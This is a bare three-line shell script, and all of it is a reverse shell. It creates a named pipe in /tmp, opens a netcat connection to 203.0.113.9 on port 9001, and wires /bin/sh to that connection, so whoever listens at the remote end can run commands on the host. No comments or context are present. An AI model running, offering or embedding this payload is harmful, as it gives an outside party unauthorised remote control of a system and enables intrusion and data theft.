#!/bin/sh
rm -f /tmp/f; mkfifo /tmp/f
nc 203.0.113.9 9001 < /tmp/f | /bin/sh > /tmp/f 2>&1
